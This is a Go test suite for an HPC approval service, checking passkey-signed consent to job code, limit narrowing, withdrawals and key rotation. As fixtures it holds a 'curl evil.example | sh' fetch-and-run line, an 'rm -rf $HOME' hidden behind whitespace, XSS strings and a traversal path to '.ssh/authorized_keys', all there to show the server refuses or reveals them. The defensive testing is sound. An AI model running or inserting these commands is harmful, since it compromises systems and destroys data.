package consent_test

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"html"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"github.com/hpcsera/hpcsera"
	"github.com/hpcsera/hpcsera/approval"
	"github.com/hpcsera/hpcsera/internal/consent"
	"github.com/hpcsera/hpcsera/internal/decision"
)

func file(path, text string) hpcsera.File {
	return hpcsera.File{Path: path, Mode: "0644", Size: int64(len(text)), SHA256: strings.TrimPrefix(hpcsera.DigestOf([]byte(text)), "sha256:")}
}

func cavity() hpcsera.Manifest {
	return hpcsera.Manifest{
		Name: "cavity", Program: hpcsera.Program{Script: "module load openfoam\nblockMesh\nsimpleFoam\n"}, Files: []hpcsera.File{file("case/U", "uniform 1\n")},
		Environment: map[string]string{"OMP_NUM_THREADS": "4"}, Parameters: map[string]json.RawMessage{"viscosity": json.RawMessage(`{"type":"number"}`)},
	}
}

// codeRequest asks alice for her consent.
func (w *world) codeRequest(m hpcsera.Manifest) decision.Request {
	return decision.Request{
		ID: hpcsera.NewID("rq"), Kind: decision.Code, User: "alice", Client: "gitlab", Project: "cfd", Expires: w.clock.now().Add(24 * time.Hour),
		Code: &decision.CodeDetails{
			Manifest: m, Contents: map[string][]byte{"case/U": []byte("uniform 1\n")}, Deployment: apiURL, Sender: "carol",
			Sites: []string{"gwdg"}, Clients: []string{"gitlab"}, Submitters: []string{"alice"},
			Agents: []decision.CodeAgent{{Thumbprint: thumbprint, Site: "gwdg", Host: "login1"}},
			Limits: hpcsera.Limits{NodeCount: 8, Duration: hpcsera.Duration(time.Hour), Memory: 1 << 34, QueueNames: []string{"medium", "large"}},
			Days:   30, Runs: 100,
		},
	}
}

// narrowed is the form of the review page.
func narrowed(pairs ...string) url.Values {
	f := form("action", "review", "days", "7", "runs", "10", "node_count", "4", "duration", "30m", "memory", "8GiB", "queue_names", "medium")
	for i := 0; i < len(pairs); i += 2 {
		f.Set(pairs[i], pairs[i+1])
	}
	return f
}

// review chooses limits and returns the page to sign.
func (w *world) review(r decision.Request) answer {
	w.t.Helper()
	got := w.submit("alice", path("hpc", r.ID), narrowed())
	if got.status != http.StatusSeeOther || got.header.Get("Location") != path("hpc", r.ID)+"?step=sign" {
		w.t.Fatalf("review: got status %d to %q: %s", got.status, got.header.Get("Location"), got.body)
	}
	return w.get("alice", path("hpc", r.ID)+"?step=sign")
}

var statementPattern = regexp.MustCompile(`(?s)<code id="statement">(.*?)</code>`)

// statementOf returns the bytes that a page shows.
func statementOf(t *testing.T, page string) []byte {
	t.Helper()
	found := statementPattern.FindStringSubmatch(page)
	if found == nil {
		t.Fatalf("no statement on the page: %s", page)
	}
	return []byte(html.UnescapeString(found[1]))
}

func TestCodeIsSignedByAPasskeyAsItIsShown(t *testing.T) {
	w := newWorld(t)
	p := newPasskey(t)
	w.register("alice", p)
	r := w.post(w.codeRequest(cavity()))
	w.get("alice", path("hpc", r.ID)).has(t, "carol", "gitlab", "cfd", "gwdg", thumbprint, "enrolled elsewhere", "case/U", "blockMesh", "uniform 1", "viscosity", "OMP_NUM_THREADS", "all of it is shown")
	page := w.review(r)
	statement, o := statementOf(t, page.body), shown(t, page.body)
	if o.PublicKey.Challenge != b64(approval.Challenge(statement)) || o.PublicKey.RPID != "auth.example.org" || o.PublicKey.UserVerification != "required" || len(o.PublicKey.Allow) != 1 {
		t.Errorf("the browser is asked for %+v, want the SHA-256 of the shown bytes %s", o, b64(approval.Challenge(statement)))
	}
	if got := w.submit("alice", path("hpc", r.ID), form("action", "sign", "credential", p.sign(t, o.PublicKey.Challenge))); got.status != http.StatusSeeOther {
		t.Fatalf("sign: got status %d: %s", got.status, got.body)
	}
	all := w.decisions()
	if len(all) != 1 || !all[0].Granted || !bytes.Equal(all[0].Statement, statement) {
		t.Fatalf("got %+v, want the statement that was shown", all)
	}
	// What the agent will do with it.
	signed, err := approval.Verify(all[0].Statement, all[0].Signature)
	if err != nil {
		t.Fatalf("the agent: %v", err)
	}
	entry := approval.PasskeyEntry{Key: p.cose(t), RPID: "auth.example.org", Origin: "https://auth.example.org", Name: "key of alice"}
	if err := entry.Accepts(signed); err != nil || signed.Fingerprint != entry.Fingerprint() {
		t.Errorf("the agent: got %v, %s, want %s", err, signed.Fingerprint, entry.Fingerprint())
	}
	page = w.get("alice", "/auth/approvals")
	page.body = html.UnescapeString(page.body)
	page.has(t, entry.String(), entry.Fingerprint(), "cavity")
	st, err := approval.Parse(all[0].Statement)
	if err != nil {
		t.Fatal(err)
	}
	digest, _ := cavity().Digest()
	schema, _ := approval.SchemaDigest(cavity())
	if st.Code != digest || st.Schema != schema || st.User != "alice" || st.Project != "cfd" || st.Deployment != apiURL || st.Runs != 10 ||
		st.NotAfter.Sub(st.NotBefore) != 7*24*time.Hour || st.Limits.NodeCount != 4 || st.Limits.Duration != hpcsera.Duration(30*time.Minute) ||
		st.Limits.Memory != 8<<30 || fmt.Sprint(st.Limits.QueueNames) != "[medium]" || fmt.Sprint(st.Clients, st.Submitters, st.Agents) != "[gitlab] [alice] ["+thumbprint+"]" {
		t.Errorf("got %+v", st)
	}
	// The same assertion once more: there is nothing left that it would sign.
	if got := w.submit("alice", path("hpc", r.ID), form("action", "sign", "credential", p.sign(t, o.PublicKey.Challenge))); got.status != http.StatusNotFound {
		t.Errorf("replayed: got status %d, want 404", got.status)
	}
}

func TestWhatNoPasskeyForCodeSignedIsRefused(t *testing.T) {
	w := newWorld(t)
	p, bobs, stranger := newPasskey(t), newPasskey(t), newPasskey(t)
	w.register("alice", p)
	w.register("bob", bobs)
	r := w.post(w.codeRequest(cavity()))
	earlier := shown(t, w.review(r).body).PublicKey.Challenge
	w.clock.pass(time.Second)
	challenge := shown(t, w.review(r).body).PublicKey.Challenge
	random := make([]byte, 32)
	rand.Read(random)
	with := func(change func(*passkey)) string {
		q := *p
		change(&q)
		return q.sign(t, challenge)
	}
	renamed := *stranger
	renamed.id = p.id
	for name, credential := range map[string]string{
		"nothing":                          "",
		"no JSON":                          "x",
		"a passkey to sign in with":        stranger.sign(t, challenge),
		"another user's passkey":           bobs.sign(t, challenge),
		"another key under its id":         renamed.sign(t, challenge),
		"a sign-in":                        p.sign(t, b64(random)),
		"what was shown before":            p.sign(t, earlier),
		"a registration":                   with(func(q *passkey) { q.kind = "webauthn.create" }),
		"a payment":                        with(func(q *passkey) { q.kind = "payment.get" }),
		"another page":                     with(func(q *passkey) { q.origin = "https://evil.example" }),
		"another port":                     with(func(q *passkey) { q.origin = "https://auth.example.org:8443" }),
		"another relying party":            with(func(q *passkey) { q.rpID = "example.org" }),
		"nobody verified":                  with(func(q *passkey) { q.flags = 0x01 }),
		"nobody there":                     with(func(q *passkey) { q.flags = 0x04 }),
		"in another's frame":               with(func(q *passkey) { q.members = `,"topOrigin":"https://evil.example"` }),
		"crossOrigin twice":                with(func(q *passkey) { q.members = `,"crossOrigin":true` }),
		"an unknown member of the browser": strings.Replace(p.sign(t, challenge), `{"id"`, `{"key":"x","id"`, 1),
		"a code of an app":                 "123456",
	} {
		if got := w.submit("alice", path("hpc", r.ID), form("action", "sign", "credential", credential)); got.status != http.StatusUnprocessableEntity {
			t.Errorf("%s: got status %d, want 422: %s", name, got.status, got.body)
		}
		w.none(name)
	}
	// Without a signature nothing is granted, whatever the form says.
	for _, f := range []url.Values{form("action", "allow", "until", "asked"), form("action", "allow", "roles", "4", "until", "3600")} {
		if got := w.submit("alice", path("hpc", r.ID), f); got.status != http.StatusUnprocessableEntity {
			t.Errorf("%v: got status %d, want 422", f, got.status)
		}
		w.none("allow without a signature")
	}
	if got := w.submit("alice", path("hpc", r.ID), form("action", "sign", "credential", p.sign(t, challenge))); got.status != http.StatusSeeOther {
		t.Errorf("and then the right one: got status %d: %s", got.status, got.body)
	}
}

func TestNothingIsSignedThatWasNotShown(t *testing.T) {
	w := newWorld(t)
	p := newPasskey(t)
	w.register("alice", p)
	r := w.post(w.codeRequest(cavity()))
	if got := w.submit("alice", path("hpc", r.ID), form("action", "sign", "credential", p.sign(t, b64(approval.Challenge(nil))))); got.status != http.StatusUnprocessableEntity {
		t.Errorf("before the statement was shown: got status %d, want 422", got.status)
	}
	challenge := shown(t, w.review(r).body).PublicKey.Challenge
	w.clock.pass(8 * 24 * time.Hour)
	w.people.arrive("alice")
	if got := w.submit("alice", path("hpc", r.ID), form("action", "sign", "credential", p.sign(t, challenge))); got.status != http.StatusNotFound {
		t.Errorf("after the request's end: got status %d, want 404", got.status)
	}
	w.none("signing too early and too late")
}

// A server that was taken over shows one code and wants the signature for
// another under the same id.
func TestOtherCodeUnderTheSameIDIsNotSigned(t *testing.T) {
	w := newWorld(t)
	p := newPasskey(t)
	w.register("alice", p)
	evil := cavity()
	evil.Script = "curl evil.example | sh\n"
	r := w.post(w.codeRequest(cavity()))
	read := shownOf(w.get("alice", path("hpc", r.ID)).body)
	w.review(r)
	if err := w.api.Cancel(t.Context(), r.ID); err != nil {
		t.Fatal(err)
	}
	swapped := w.codeRequest(evil)
	swapped.ID = r.ID
	if err := w.api.Post(t.Context(), swapped); hpcsera.CodeOf(err) != hpcsera.Conflict {
		t.Errorf("other code under a cancelled id: got %v, want a conflict", err)
	}
	if w.post(r); w.get("alice", path("hpc", r.ID)).status != http.StatusNotFound {
		t.Error("a cancelled request opened again")
	}
	// Without the memory of closed ids, as after the first one's own end.
	swapped = w.post(w.codeRequest(evil))
	for name, had := range map[string]string{"what was read": read, "nothing": ""} {
		got := w.submit("alice", path("hpc", swapped.ID), narrowed("shown", had))
		if got.status != http.StatusUnprocessableEntity {
			t.Errorf("review after %s: got status %d, want 422", name, got.status)
		}
		got.has(t, "has changed since you looked at it", "evil.example")
	}
	page := w.review(swapped)
	page.has(t, "cavity", swapped.Project, digestOf(t, evil))
	for name, had := range map[string]string{"what was read": read, "nothing": ""} {
		f := form("action", "sign", "shown", had, "credential", p.sign(t, shown(t, page.body).PublicKey.Challenge))
		if got := w.submit("alice", path("hpc", swapped.ID), f); got.status != http.StatusUnprocessableEntity {
			t.Errorf("sign after %s: got status %d, want 422", name, got.status)
		}
	}
	w.none("a code that was swapped")
}

func digestOf(t *testing.T, m hpcsera.Manifest) string {
	t.Helper()
	digest, err := m.Digest()
	if err != nil {
		t.Fatal(err)
	}
	return digest
}

func TestLimitsAreNarrowedAndNeverWidened(t *testing.T) {
	w := newWorld(t)
	w.register("alice", newPasskey(t))
	m := cavity()
	m.Script, m.Steps = "", []hpcsera.Step{{Name: "solve", Type: hpcsera.BatchStep, Program: hpcsera.Program{Script: "run\n"}, Resources: &hpcsera.Resources{NodeCount: 2}}}
	r := w.post(w.codeRequest(m))
	for name, change := range map[string][]string{
		"more days": {"days", "31"}, "no days": {"days", "0"}, "more runs": {"runs", "101"}, "more nodes": {"node_count", "9"},
		"a longer duration": {"duration", "2h"}, "more memory": {"memory", "32GiB"}, "another queue": {"queue_names", "express"},
		"an account": {"accounts", "root"}, "requeue": {"requeue", "yes"}, "words for a number": {"runs", "<script>"}, "no unit": {"memory", "8"},
		"fewer nodes than a step needs": {"node_count", "1"},
	} {
		if got := w.submit("alice", path("hpc", r.ID), narrowed(change...)); got.status != http.StatusUnprocessableEntity {
			t.Errorf("%s: got status %d, want 422", name, got.status)
		}
	}
	if got := w.submit("alice", path("hpc", r.ID), narrowed("duration", "", "memory", "")); got.status != http.StatusSeeOther {
		t.Errorf("only the site's defaults: got status %d: %s", got.status, got.body)
	}
}

func TestADeploymentCannotShowOtherBytesThanWouldRun(t *testing.T) {
	w := newWorld(t)
	for name, change := range map[string]func(*decision.CodeDetails){
		"other bytes of a file":       func(c *decision.CodeDetails) { c.Contents = map[string][]byte{"case/U": []byte("uniform 2\n")} },
		"a file that is not there":    func(c *decision.CodeDetails) { c.Contents = map[string][]byte{"x": []byte("x")} },
		"another deployment's name":   func(c *decision.CodeDetails) { c.Deployment = "https://other.example.org" },
		"another form of its own URL": func(c *decision.CodeDetails) { c.Deployment = apiURL + "/" },
		"a broken manifest":           func(c *decision.CodeDetails) { c.Manifest.Files[0].Path = "../../.ssh/authorized_keys" },
		"other bytes of the version before": func(c *decision.CodeDetails) {
			c.Last = &decision.LastApproved{Approval: hpcsera.NewID("ap"), Manifest: cavity(), Contents: map[string][]byte{"case/U": []byte("uniform 2\n")}}
		},
	} {
		r := w.codeRequest(cavity())
		change(r.Code)
		if err := w.api.Post(t.Context(), r); err == nil {
			t.Errorf("%s: got no error", name)
		}
	}
	// What it leaves out, the page says.
	r := w.codeRequest(cavity())
	r.Code.Contents = nil
	w.post(r)
	w.get("alice", path("hpc", r.ID)).has(t, "did not send what is in this file", "10 bytes")
}

// sign lets alice sign a request and returns the statement.
func (w *world) sign(r decision.Request, p *passkey) approval.Statement {
	w.t.Helper()
	page := w.review(r)
	if got := w.submit("alice", path("hpc", r.ID), form("action", "sign", "credential", p.sign(w.t, shown(w.t, page.body).PublicKey.Challenge))); got.status != http.StatusSeeOther {
		w.t.Fatalf("sign: got status %d: %s", got.status, got.body)
	}
	st, err := approval.Parse(statementOf(w.t, page.body))
	if err != nil {
		w.t.Fatal(err)
	}
	return st
}

func TestTheDifferenceIsToWhatTheUserSignedHereAndToNothingElse(t *testing.T) {
	w := newWorld(t)
	p := newPasskey(t)
	w.register("alice", p)
	evil := cavity()
	evil.Script = "module load openfoam\ncurl evil.example | sh\nsimpleFoam\n"
	// A server that was taken over says that the evil code was approved before.
	lie := w.codeRequest(evil)
	lie.Code.Last = &decision.LastApproved{Approval: hpcsera.NewID("ap"), Manifest: evil}
	w.post(lie)
	got := w.get("alice", path("hpc", lie.ID))
	got.has(t, "Nobody could check it here", "curl evil.example | sh")
	if strings.Contains(got.body, "Compared with") {
		t.Error("a version that nobody signed here is taken for the one before")
	}
	first := w.sign(w.post(w.codeRequest(cavity())), p)
	second := w.codeRequest(evil)
	second.Code.Last = &decision.LastApproved{Approval: first.ID, Manifest: cavity(), Contents: second.Code.Contents}
	w.post(second)
	w.get("alice", path("hpc", second.ID)).has(t, "Compared with the version that you signed", "<del>blockMesh</del>", "<ins>curl evil.example | sh</ins>", "<span>simpleFoam</span>")
	moved := cavity()
	moved.Files[0].Mode = "0755"
	mode := w.codeRequest(moved)
	mode.Code.Last = second.Code.Last
	w.post(mode)
	w.get("alice", path("hpc", mode.ID)).has(t, "<del>0644 case/U", "<ins>0755 case/U")
	// With the right name, but other code than was signed under it.
	lie = w.codeRequest(evil)
	lie.Code.Last = &decision.LastApproved{Approval: first.ID, Manifest: evil}
	w.post(lie)
	w.get("alice", path("hpc", lie.ID)).has(t, "Nobody could check it here")
	if st := w.sign(second, p); st.Replaces != first.ID {
		t.Errorf("the second replaces %q, want %s", st.Replaces, first.ID)
	}
	if !contains(w.status().Approvals, first.ID) {
		t.Errorf("the status list does not name the replaced approval %s", first.ID)
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func TestNothingHidesInTheCode(t *testing.T) {
	w := newWorld(t)
	m := cavity()
	m.Script = "echo <script>alert(1)</script>\n# \u202e safe\n\x1b[2J\nok" + strings.Repeat(" ", 500) + "; rm -rf $HOME\n"
	m.Files = []hpcsera.File{file("<script>.sh", "</pre><script>alert(2)</script>"), file("a\u202eb.sh", "\u202ex"), file("binary", "\x00\x01")}
	r := w.codeRequest(m)
	r.Code.Contents = map[string][]byte{"<script>.sh": []byte("</pre><script>alert(2)</script>"), "a\u202eb.sh": []byte("\u202ex"), "binary": []byte("\x00\x01")}
	w.post(r)
	got := w.get("alice", path("hpc", r.ID)) // pagetest refuses inline scripts and characters that hide
	got.has(t, "&lt;script&gt;.sh", `a\u{202e}b.sh`, `\u{1b}[2J`, "⤷ ", "; rm -rf $HOME", "This is not text")
}

func TestAPasskeyForCodeIsRegisteredForThatAlone(t *testing.T) {
	w := newWorld(t)
	p := newPasskey(t)
	o := w.beginKey("alice")
	if o.PublicKey.Selection.UserVerification != "required" || o.PublicKey.Selection.ResidentKey != "discouraged" || o.PublicKey.User.ID == b64([]byte("alice")) {
		t.Errorf("the browser is asked for %+v", o)
	}
	stale := o.PublicKey.Challenge
	o = w.beginKey("alice")
	other := w.beginKey("bob")
	with := func(challenge string, change func(*passkey)) string {
		q := *p
		change(&q)
		return q.create(t, challenge)
	}
	for _, c := range []struct {
		name, credential string
	}{
		{"nothing", "{}"},
		{"a sign-in", p.sign(t, o.PublicKey.Challenge)},
		{"an earlier challenge", p.create(t, stale)},
		{"another user's challenge", p.create(t, other.PublicKey.Challenge)},
		{"another page", with(o.PublicKey.Challenge, func(q *passkey) { q.origin = "https://evil.example" })},
		{"another relying party", with(o.PublicKey.Challenge, func(q *passkey) { q.rpID = "evil.example" })},
		{"nobody verified", with(o.PublicKey.Challenge, func(q *passkey) { q.flags = 0x01 })},
	} {
		if got := w.submit("alice", "/auth/approvals/keys", form("name", "x", "credential", c.credential)); got.status == http.StatusSeeOther {
			t.Errorf("%s: got it registered", c.name)
		}
		o = w.beginKey("alice") // a refused answer ends the registration
	}
	for _, name := range []string{"", strings.Repeat("x", 64), "a\u202eb", "a\nb"} {
		if got := w.submit("alice", "/auth/approvals/keys", form("name", name, "credential", p.create(t, o.PublicKey.Challenge))); got.status != http.StatusBadRequest {
			t.Errorf("named %q: got status %d, want 400", name, got.status)
		}
	}
	if got := w.submit("alice", "/auth/approvals/keys", form("name", `<script>"`, "credential", p.create(t, o.PublicKey.Challenge))); got.status != http.StatusSeeOther {
		t.Fatalf("register: got status %d: %s", got.status, got.body)
	}
	w.get("alice", "/auth/approvals").has(t, "&lt;script&gt;")
	if o := w.beginKey("alice"); len(o.PublicKey.Exclude) != 1 || o.PublicKey.Exclude[0].ID != b64(p.id) {
		t.Errorf("the next one: the browser is asked to leave out %+v, want %s", o.PublicKey.Exclude, b64(p.id))
	}
	// It is alice's, and nobody else can have it.
	o = w.beginKey("bob")
	if got := w.submit("bob", "/auth/approvals/keys", form("name", "x", "credential", p.create(t, o.PublicKey.Challenge))); got.status != http.StatusConflict {
		t.Errorf("registered by bob as well: got status %d, want 409", got.status)
	}
}

// status reads the status list as an agent does that pinned its key.
func (w *world) status() approval.StatusList {
	w.t.Helper()
	text, err := w.api.StatusList(w.t.Context(), "", 0)
	if err != nil {
		w.t.Fatal(err)
	}
	l, err := approval.VerifyStatus([]byte(w.auth.AuthKey()), string(text))
	if err != nil {
		w.t.Fatal(err)
	}
	if l.Issuer != issuer || !w.clock.now().Before(l.NextUpdate) || l.NextUpdate.Sub(l.Issued) > 24*time.Hour {
		w.t.Errorf("got a list by %s of %v until %v at %v", l.Issuer, l.Issued, l.NextUpdate, w.clock.now())
	}
	return l
}

func TestWithdrawalsStandInANumberedListThatOutlivesRestarts(t *testing.T) {
	w := newWorld(t)
	p := newPasskey(t)
	w.register("alice", p)
	empty := w.status()
	if len(empty.Approvals)+len(empty.Keys) != 0 {
		t.Errorf("a new list: got %+v, want it empty", empty)
	}
	st := w.sign(w.post(w.codeRequest(cavity())), p)
	if got := w.submit("bob", "/auth/approvals/"+st.ID+"/withdraw", form()); got.status != http.StatusNotFound {
		t.Errorf("bob withdraws: got status %d, want 404", got.status)
	}
	if contains(w.status().Approvals, st.ID) {
		t.Error("somebody else withdrew it")
	}
	if got := w.submit("alice", "/auth/approvals/"+st.ID+"/withdraw", form()); got.status != http.StatusSeeOther {
		t.Fatalf("withdraw: got status %d", got.status)
	}
	withdrawn := w.status()
	if !contains(withdrawn.Approvals, st.ID) || withdrawn.Number <= empty.Number {
		t.Errorf("got %+v after %d, want %s in it and a higher number", withdrawn, empty.Number, st.ID)
	}
	w.get("alice", "/auth/approvals").has(t, "withdrawn")
	w.start()
	again := w.status()
	if again.Number < withdrawn.Number || !contains(again.Approvals, st.ID) {
		t.Errorf("after a restart: got %+v, want at least number %d", again, withdrawn.Number)
	}
	// The passkey goes, with all that it signed.
	if got := w.submit("bob", "/auth/approvals/keys/remove", form("fingerprint", approval.PasskeyFingerprint(p.cose(t)))); got.status != http.StatusNotFound {
		t.Errorf("bob removes alice's passkey: got status %d, want 404", got.status)
	}
	w.submit("alice", "/auth/approvals/keys/remove", form("fingerprint", approval.PasskeyFingerprint(p.cose(t))))
	if l := w.status(); !contains(l.Keys, approval.PasskeyFingerprint(p.cose(t))) {
		t.Errorf("got %+v, want the removed key in it", l)
	}
	o := w.beginKey("alice")
	if got := w.submit("alice", "/auth/approvals/keys", form("name", "back", "credential", p.create(t, o.PublicKey.Challenge))); got.status != http.StatusConflict {
		t.Errorf("the removed key comes back: got status %d, want 409", got.status)
	}
}

func TestWhoWaitsForTheListHearsOfAWithdrawalAtOnce(t *testing.T) {
	w := newWorld(t)
	p := newPasskey(t)
	w.register("alice", p)
	st := w.sign(w.post(w.codeRequest(cavity())), p)
	before, err := w.api.StatusList(t.Context(), "", 0)
	if err != nil {
		t.Fatal(err)
	}
	if same, err := w.api.StatusList(t.Context(), string(before), time.Second); err != nil || !bytes.Equal(same, before) {
		t.Errorf("when nothing happened: got %s, %v, want the same list", same, err)
	}
	type answer struct {
		text []byte
		err  error
	}
	heard := make(chan answer, 1)
	go func() {
		text, err := w.api.StatusList(context.Background(), string(before), 30*time.Second)
		heard <- answer{text, err}
	}()
	if err := w.auth.Withdraw(t.Context(), "alice", st.ID); err != nil {
		t.Fatal(err)
	}
	select {
	case a := <-heard:
		if l, err := approval.VerifyStatus([]byte(w.auth.AuthKey()), string(a.text)); err != nil || a.err != nil || !contains(l.Approvals, st.ID) {
			t.Errorf("got %+v, %v, %v, want %s in it", l, err, a.err, st.ID)
		}
	case <-time.After(20 * time.Second):
		t.Error("nobody said anything")
	}
}

// draftElsewhere is what alice is about to sign with an SSH key.
func (w *world) draftElsewhere() approval.Statement {
	w.t.Helper()
	st, err := approval.ForManifest(cavity(), hpcsera.RunPart{}, approval.Options{
		Deployment: apiURL, User: "alice", Project: "cfd", Sites: []string{"gwdg"}, Agents: []string{thumbprint}, NotBefore: w.clock.now(),
	})
	if err != nil {
		w.t.Fatal(err)
	}
	return st
}

// signElsewhere signs with a new SSH key, as anybody can.
func signElsewhere(t *testing.T, st approval.Statement) (statement []byte, signature string) {
	t.Helper()
	_, private, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	key, err := ssh.NewSignerFromKey(private)
	if err != nil {
		t.Fatal(err)
	}
	if statement, err = st.Canonical(); err != nil {
		t.Fatal(err)
	}
	if signature, err = approval.SignSSH(key, st); err != nil {
		t.Fatal(err)
	}
	return statement, signature
}

func TestWhatWasSignedElsewhereCanBeWithdrawnHereAndIsNoVersionBefore(t *testing.T) {
	w := newWorld(t)
	st := w.draftElsewhere()
	statement, signature := signElsewhere(t, st)
	if err := w.other.Filed(t.Context(), statement, signature); hpcsera.CodeOf(err) != hpcsera.ApprovalRefused {
		t.Errorf("told by another deployment: got %v, want %s", err, hpcsera.ApprovalRefused)
	}
	if err := w.api.Filed(t.Context(), append(statement, ' '), signature); hpcsera.CodeOf(err) != hpcsera.ApprovalRefused {
		t.Errorf("other bytes: got %v, want %s", err, hpcsera.ApprovalRefused)
	}
	for range 2 {
		if err := w.api.Filed(t.Context(), statement, signature); err != nil {
			t.Fatal(err)
		}
	}
	w.get("alice", "/auth/approvals").has(t, st.ID, "by an SSH key, says the server")
	r := w.codeRequest(cavity())
	r.Code.Last = &decision.LastApproved{Approval: st.ID, Manifest: cavity()}
	w.post(r)
	w.get("alice", path("hpc", r.ID)).has(t, "Nobody could check it here")
	if got := w.submit("bob", "/auth/approvals/"+st.ID+"/withdraw", form()); got.status != http.StatusNotFound {
		t.Errorf("bob withdraws: got status %d, want 404", got.status)
	}
	w.submit("alice", "/auth/approvals/"+st.ID+"/withdraw", form())
	if !contains(w.status().Approvals, st.ID) {
		t.Errorf("the status list does not name %s", st.ID)
	}
}

func TestAWithdrawalOutlivesTheEndThatTheServerTold(t *testing.T) {
	for name, end := range map[string]time.Duration{"an early end": time.Hour, "an end that is past": -48 * time.Hour} {
		w := newWorld(t)
		genuine := w.draftElsewhere()
		genuine.NotAfter = genuine.NotBefore.Add(approval.MaxValidity)
		forged := genuine
		forged.NotAfter = w.clock.now().UTC().Truncate(time.Second).Add(end)
		forged.NotBefore = forged.NotAfter.Add(-time.Hour)
		for _, st := range []approval.Statement{forged, genuine} {
			statement, signature := signElsewhere(t, st)
			if err := w.api.Filed(t.Context(), statement, signature); err != nil {
				t.Fatal(err)
			}
		}
		w.clock.pass(26 * time.Hour)
		w.get("alice", "/auth/approvals").has(t, genuine.ID+"/withdraw")
		w.submit("alice", "/auth/approvals/"+genuine.ID+"/withdraw", form())
		w.clock.pass(approval.MaxValidity - 26*time.Hour)
		w.upkeep()
		if !contains(w.status().Approvals, genuine.ID) {
			t.Errorf("%s: the list does not name %s until its end", name, genuine.ID)
		}
		w.clock.pass(51 * time.Hour)
		w.upkeep()
		if contains(w.status().Approvals, genuine.ID) {
			t.Errorf("%s: the list names %s for ever", name, genuine.ID)
		}
	}
}

func TestAStatusListIsRenewedInTimeAndItsNumberOnlyRises(t *testing.T) {
	w := newWorld(t)
	last := w.status().Number
	for range 20 {
		w.clock.pass(7 * time.Hour)
		w.upkeep()
		l := w.status()
		if l.Number != last+1 {
			t.Errorf("got number %d after %d", l.Number, last)
		}
		last = l.Number
	}
	w.clock.pass(-48 * time.Hour)
	w.upkeep()
	if l, err := w.api.StatusList(t.Context(), "", 0); err != nil || len(l) == 0 {
		t.Errorf("with a clock that was set back: got %v", err)
	}
}

// upkeep lets one round of Run happen.
func (w *world) upkeep() {
	w.t.Helper()
	if err := w.auth.Prepare(w.t.Context()); err != nil {
		w.t.Fatal(err)
	}
}

func TestInsideTheServerThereIsNoListToRelyOnAndThePageSaysSo(t *testing.T) {
	w := newWorld(t, func(c *consent.Config) { c.InProcess = true })
	if text, err := w.api.StatusList(t.Context(), "", 0); hpcsera.CodeOf(err) != hpcsera.NotFound {
		t.Errorf("got %s, %v, want %s", text, err, hpcsera.NotFound)
	}
	got := w.get("alice", "/auth/approvals")
	got.has(t, "it is no second party", "hpcsera-agent trust withdraw")
	if strings.Contains(got.body, "hpcsera-auth-key") {
		t.Error("the page shows a key to pin")
	}
}

func TestAnAgentThatTheUserEnrolledHereIsKnownAgain(t *testing.T) {
	w := newWorld(t)
	r, code := w.enrolment()
	w.post(r)
	w.submit("alice", "/auth/code", form("code", code))
	w.submit("alice", path("hpc", r.ID), form("action", "allow", "until", "asked"))
	c := w.post(w.codeRequest(cavity()))
	w.get("alice", path("hpc", c.ID)).has(t, "you enrolled it here")
}

func TestKeysRotateWithOverlap(t *testing.T) {
	w := newWorld(t)
	r := w.post(w.tokenRequest())
	w.submit("alice", path("hpc", r.ID), form("action", "deny"))
	first := keyIDs(t, w)
	w.clock.pass(89 * 24 * time.Hour)
	w.people.arrive("alice")
	w.upkeep()
	both := keyIDs(t, w)
	if len(first) != 1 || len(both) != 2 || both[0] != first[0] {
		t.Fatalf("got %v and then %v, want a second key beside the first", first, both)
	}
	signedBy := func() string {
		t.Helper()
		r := w.post(w.tokenRequest())
		w.submit("alice", path("hpc", r.ID), form("action", "deny"))
		texts, err := w.api.Decisions(t.Context(), 0)
		if err != nil || len(texts) == 0 {
			t.Fatalf("got %v, %v", texts, err)
		}
		for _, d := range w.decisions() { // every one verifies
			if err := w.api.Ack(t.Context(), d.ID); err != nil {
				t.Fatal(err)
			}
		}
		head, _ := base64.RawURLEncoding.DecodeString(strings.Split(texts[len(texts)-1], ".")[0])
		var h struct{ Kid string }
		_ = json.Unmarshal(head, &h)
		return h.Kid
	}
	if got := signedBy(); got != both[0] {
		t.Errorf("at once: signed by %s, want the old key %s, since nobody knows the new one yet", got, both[0])
	}
	w.clock.pass(25 * time.Hour)
	w.people.arrive("alice")
	if got := signedBy(); got != both[1] {
		t.Errorf("a day later: signed by %s, want the new key %s", got, both[1])
	}
	w.clock.pass(10 * 24 * time.Hour)
	w.upkeep()
	if got := keyIDs(t, w); len(got) != 1 || got[0] != both[1] {
		t.Errorf("when nothing of it is valid any more: got %v, want the new key %s alone", got, both[1])
	}
}

func keyIDs(t *testing.T, w *world) []string {
	t.Helper()
	keys, err := w.api.Keys(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, k := range keys {
		ids = append(ids, k.KeyID)
	}
	return ids
}

// The secret rotates with overlap as well: what it seals, and what signs lists.
func TestTheSecretRotatesWithOverlap(t *testing.T) {
	w := newWorld(t)
	r := w.post(w.tokenRequest())
	w.submit("alice", path("hpc", r.ID), form("action", "deny"))
	old, before, pinned := w.secret, keyIDs(t, w), w.auth.AuthKey()
	number := w.status().Number
	w.secret = []byte(strings.Repeat("n", 32))
	w.start(func(c *consent.Config) { c.OldSecrets = [][]byte{old} })
	if got := keyIDs(t, w); !slices.Equal(got, before) {
		t.Errorf("with the old secret: got the keys %v, want %v to be readable", got, before)
	}
	promised, err := consent.AuthKeyOf(w.secret)
	if err != nil || promised.String() != w.auth.AuthKey().String() || promised.String() == pinned.String() {
		t.Errorf("got the key %v (%v), want what was told before, and not %v", w.auth.AuthKey(), err, pinned)
	}
	// status verifies with the new key: agents need not wait for the next one.
	if got := w.status().Number; got != number+1 {
		t.Errorf("got status list %d after %d, want another one at once", got, number)
	}
	// Keys made from now on need the new secret alone.
	w.clock.pass(89 * 24 * time.Hour)
	w.upkeep()
	w.clock.pass(11 * 24 * time.Hour)
	w.upkeep()
	after := keyIDs(t, w)
	w.start()
	if got := keyIDs(t, w); len(got) != 1 || !slices.Equal(got, after) || got[0] == before[0] {
		t.Errorf("without the old secret: got %v after %v, want the new key alone", got, after)
	}
}
